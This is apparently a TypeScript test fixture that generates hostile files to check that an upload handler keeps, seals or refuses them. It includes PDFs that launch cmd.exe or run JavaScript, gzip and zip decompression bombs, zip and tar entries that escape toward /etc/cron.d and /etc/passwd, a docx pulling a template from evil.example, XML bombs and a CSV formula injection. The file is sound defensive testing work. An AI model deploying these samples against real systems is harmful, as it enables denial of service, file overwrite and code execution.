import { deflateRawSync, gzipSync } from 'node:zlib'
import { drawings, entity, laughs } from './drawings.ts'
import { type HostileFile, hex, join, MARK, text } from './hostile-file.ts'

const zeros = (bytes: number) => Buffer.alloc(bytes)

/** Files of other kinds: nothing of ours takes them apart beyond their first bytes; they stay as they came, sealed, or are refused. */
export function otherFiles(): HostileFile[] {
  return [...documents(), ...packed(), ...drawings(), ...programs(), ...pictureKinds(), ...sizes()].map(
    (file) => ({
      becomes: 'original',
      ...file,
    }),
  )
}

function documents(): HostileFile[] {
  const pdf = (what: string, body: string): HostileFile => ({
    what: `pdf ${what}`,
    name: 'a.pdf',
    bytes: text(`%PDF-1.7\n${body}\n%%EOF`),
  })
  return [
    pdf('that runs a script', '1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    pdf('that starts a program', '1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj'),
    pdf('with an embedded file', '1 0 obj<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>endobj'),
    pdf('that refers to itself', '1 0 obj<</Kids[1 0 R]/Parent 1 0 R>>endobj'),
    pdf('with an endless table', `xref\n0 4294967295\n${'0000000000 65535 f \n'.repeat(2_000)}`),
    pdf('with a hundred thousand brackets', '['.repeat(100_000)),
    pdf('cut off', '1 0 obj<</Len'),
    {
      what: 'rtf with an object',
      name: 'a.doc',
      bytes: text(`{\\rtf1{\\object\\objdata ${'41'.repeat(9_000)}}}`),
    },
    { what: 'old office file', name: 'a.xls', bytes: join(hex('d0cf11e0a1b11ae1'), zeros(2_000), MARK) },
    {
      what: 'old office file that refers to itself',
      name: 'a.doc',
      bytes: join(hex('d0cf11e0a1b11ae1'), Buffer.alloc(512, 0)),
    },
    {
      what: 'mail with a program',
      name: 'a.eml',
      bytes: text('Content-Type: application/x-msdownload\n\nTVqQ'),
    },
    {
      what: 'page with a script',
      name: 'a.html',
      bytes: text('<!doctype html><script>alert(1)</script>'),
      becomes: 'refused',
    },
    { what: 'page called a picture', name: 'a.png', bytes: text('<html><script>alert(1)</script>') },
    {
      what: 'text with marks that turn it round',
      name: 'a.txt',
      bytes: text('\u202eevil\u202c'.repeat(999)),
    },
    { what: 'table of formulas', name: 'a.csv', bytes: text('=cmd|calc!A1,+1,-1,@x') },
  ]
}

function packed(): HostileFile[] {
  const bomb = gzipSync(zeros(20 * 1024 * 1024), { level: 9 })
  const office = (inside: string, body: Uint8Array = zeros(100)) =>
    zip([
      ['[Content_Types].xml', text('<Types/>')],
      [inside, body],
    ])
  return [
    { what: 'gzip of 20 MB of nothing', name: 'a.gz', bytes: bomb },
    { what: 'gzip in a gzip in a gzip', name: 'a.gz', bytes: gzipSync(gzipSync(bomb)) },
    { what: 'zip of 50 MB of nothing', name: 'a.zip', bytes: zip([['a', zeros(50 * 1024 * 1024)]]) },
    {
      what: 'zip in a zip',
      name: 'a.zip',
      bytes: zip([['a.zip', zip([['b.zip', zip([['c', zeros(9e6)]])]])]]),
    },
    {
      what: 'zip of twenty thousand files',
      name: 'a.zip',
      bytes: zip(Array.from({ length: 20_000 }, (_, at) => [`f${at}`, zeros(0)])),
    },
    { what: 'zip that climbs out', name: 'a.zip', bytes: zip([['../../etc/cron.d/evil', text(MARK)]]) },
    { what: 'zip whose lengths lie', name: 'a.zip', bytes: lyingZip() },
    {
      what: 'word file with macros',
      name: 'a.docm',
      becomes: 'refused',
      bytes: office('word/vbaProject.bin', hex('d0cf11e0a1b11ae1')),
    },
    {
      what: 'word file with an outside template',
      name: 'a.docx',
      bytes: office(
        'word/_rels/settings.xml.rels',
        text('<Relationship TargetMode="External" Target="http://evil.example/t.dotm"/>'),
      ),
    },
    {
      what: 'spreadsheet with an XML bomb',
      name: 'a.xlsx',
      bytes: office('xl/workbook.xml', text(laughs())),
    },
    {
      what: 'presentation of 40 MB of nothing',
      name: 'a.pptx',
      bytes: office('ppt/slide1.xml', zeros(40e6)),
    },
    {
      what: 'word file that reads a file of ours',
      name: 'a.docx',
      bytes: office('word/document.xml', text(entity())),
    },
    { what: 'zip with an empty end', name: 'a.zip', bytes: join('PK\x05\x06', zeros(18)) },
    { what: '7z', name: 'a.7z', bytes: join(hex('377abcaf271c'), zeros(40)) },
    { what: 'rar', name: 'a.rar', bytes: join(hex('526172211a0700'), zeros(40)) },
    { what: 'xz', name: 'a.xz', bytes: join(hex('fd377a585a00'), zeros(40)) },
    { what: 'bzip2', name: 'a.bz2', bytes: join('BZh9', zeros(40)) },
    { what: 'tar with a link out', name: 'a.tar', bytes: tarWithLink() },
    { what: 'disk image', name: 'a.iso', bytes: join(zeros(32_769), 'CD001'), becomes: 'refused' },
    { what: 'cabinet', name: 'a.cab', bytes: join('MSCF', zeros(40)) },
  ]
}

/** By their names, or by what they begin with, whatever they are called (src/modules/cases/file-name.ts). */
const refusedPrograms = new Set(['a.exe', 'a.jpg', 'a.so', 'a.class', 'a.lnk', 'a.msi'])

function programs(): HostileFile[] {
  const heads: Readonly<Record<string, string>> = {
    'a.exe': '4d5a90000300000004000000ffff0000',
    'a.jpg': '4d5a90000300000004000000ffff0000',
    'a.so': '7f454c4602010100',
    'a.class': 'cafebabe00000034',
    'a.wasm': '0061736d01000000',
    'a.lnk': '4c0000000114020000000000c000000000000046',
    'a.swf': '435753',
    'a.msi': 'd0cf11e0a1b11ae1',
    'a.apk': '504b0304',
    'a.sqlite': '53514c69746520666f726d6174203300',
    'a.crt': '3082',
    'a.pcap': 'd4c3b2a1',
    'a.ttf': '0001000000',
    'a.mid': '4d546864',
  }
  return Object.entries(heads).map(([name, head]) => ({
    what: `program ${name} ${head.slice(0, 8)}`,
    name,
    bytes: join(hex(head), zeros(100), MARK),
    becomes: refusedPrograms.has(name) ? 'refused' : 'original',
  }))
}

/** Pictures and films of kinds that we do not make anew, malformed. */
function pictureKinds(): HostileFile[] {
  const box = (kind: string, more = '') =>
    join(hex('00000018'), `ftyp${kind}`, hex('00000000'), kind, 'mif1', more)
  const loop = join('II*\0', hex('08000000 0100 0001 0400 01000000 ffffffff 08000000'))
  const files: [string, string, Uint8Array][] = [
    ['heic of no content', 'a.heic', box('heic')],
    [
      'heic with boxes without end',
      'a.heic',
      join(box('heic'), hex('00000001'), 'meta', hex('ffffffffffffffff')),
    ],
    [
      'heic nested a thousand deep',
      'a.heic',
      join(box('heic'), join(...Array.from({ length: 1_000 }, () => join(hex('0000ffff'), 'meta')))),
    ],
    ['heic called a jpeg', 'a.jpg', box('heic')],
    ['avif of no content', 'a.avif', box('avif')],
    ['tiff whose directory is its own next', 'a.tif', loop],
    [
      'tiff of four billion strips',
      'a.tif',
      join('II*\0', hex('08000000 0100 1101 0400 ffffffff ffffffff 00000000')),
    ],
    ['tiff of four billion tags', 'a.tif', join('MM\0*', hex('00000008 ffff'))],
    ['big tiff', 'a.tif', join('II+\0', hex('0800000010000000 00000000'))],
    ['gif of 65535 squared', 'a.gif', join('GIF89a', hex('ffffffff f70000'), zeros(900))],
    [
      'gif of a thousand frames',
      'a.gif',
      join(
        'GIF89a',
        hex('08000800 800000 000000ffffff'),
        ...Array.from({ length: 1_000 }, () => hex('2c0000000008000800000202446400')),
        ';',
      ),
    ],
    [
      'bmp of a billion pixels',
      'a.bmp',
      join('BM', hex('36000000 00000000 36000000 28000000 ffffff7f ffffff7f 0100 1800'), zeros(60)),
    ],
    ['icon', 'a.ico', join(hex('00000100ffff'), zeros(60))],
    ['photoshop', 'a.psd', join('8BPS', hex('0001000000000000'), zeros(60))],
    ['jpeg 2000', 'a.jp2', join(hex('0000000c6a5020200d0a870a'), zeros(60))],
    ['jpeg xl', 'a.jxl', join(hex('0000000c4a584c200d0a870a'), zeros(60))],
    ['film', 'a.mp4', join(hex('00000020'), 'ftypisom', zeros(90))],
    ['film whose header has no end', 'a.mkv', join(hex('1a45dfa3 01ffffffffffffff'), zeros(90))],
    ['sound', 'a.ogg', join('OggS', zeros(90))],
    ['sound with a picture inside', 'a.mp3', join('ID3', hex('03000000007f7f7f7f'), MARK, zeros(90))],
    ['exr', 'a.exr', join(hex('762f310102000000'), zeros(60))],
    ['riff of another kind', 'a.webp', join('RIFF', hex('ffffffff'), 'AVI LIST', zeros(60))],
  ]
  return files.map(([what, name, bytes]) => ({ what, name, bytes }))
}

function sizes(): HostileFile[] {
  return [
    { what: 'a single byte', name: 'a.png', bytes: hex('89') },
    { what: '25 MB of nothing', name: 'a.bin', bytes: zeros(25 * 1024 * 1024) },
    {
      what: '24 MB that begin like a jpeg',
      name: 'a.jpg',
      bytes: join(hex('ffd8ff'), zeros(24e6)),
      becomes: 'refused',
    },
    {
      what: '24 MB that begin like a png',
      name: 'a.png',
      bytes: join(hex('89504e470d0a1a0a0000000d49484452'), zeros(24e6)),
      becomes: 'refused',
    },
    { what: 'a million line breaks', name: 'a.txt', bytes: text('\n'.repeat(1e6)) },
  ]
}

/** Just enough of a zip to be one. */
function zip(entries: readonly (readonly [name: string, content: Uint8Array])[]): Uint8Array {
  const local: Uint8Array[] = []
  const central: Uint8Array[] = []
  let at = 0
  for (const [name, content] of entries) {
    const bytes = deflateRawSync(content, { level: 9 })
    const sizes = Buffer.alloc(8)
    sizes.writeUInt32LE(bytes.length, 0)
    sizes.writeUInt32LE(content.length, 4)
    const length = Buffer.alloc(4)
    length.writeUInt16LE(Buffer.byteLength(name))
    const head = join(hex('1400 0000 0800 0000 0000 00000000'), sizes, length)
    const place = Buffer.alloc(4)
    place.writeUInt32LE(at)
    local.push(join('PK\x03\x04', head, name, bytes))
    central.push(join('PK\x01\x02', hex('1400'), head, zeros(10), place, name))
    at += local.at(-1)?.length ?? 0
  }
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length & 0xffff, 4)
  end.writeUInt16LE(entries.length & 0xffff, 6)
  end.writeUInt32LE(join(...central).length, 8)
  end.writeUInt32LE(at, 12)
  return join(...local, ...central, 'PK\x05\x06', end)
}

function lyingZip(): Uint8Array {
  const bytes = Buffer.from(zip([['word/document.xml', text(MARK)]]))
  bytes.writeUInt32LE(0xfffffff0, 18)
  bytes.writeUInt32LE(0xfffffff0, 22)
  return bytes
}

function tarWithLink(): Uint8Array {
  const head = Buffer.alloc(512)
  head.write('evil', 0)
  head.write('2', 156)
  head.write('/etc/passwd', 157)
  head.write('ustar\x0000', 257)
  return join(head, zeros(1024))
}
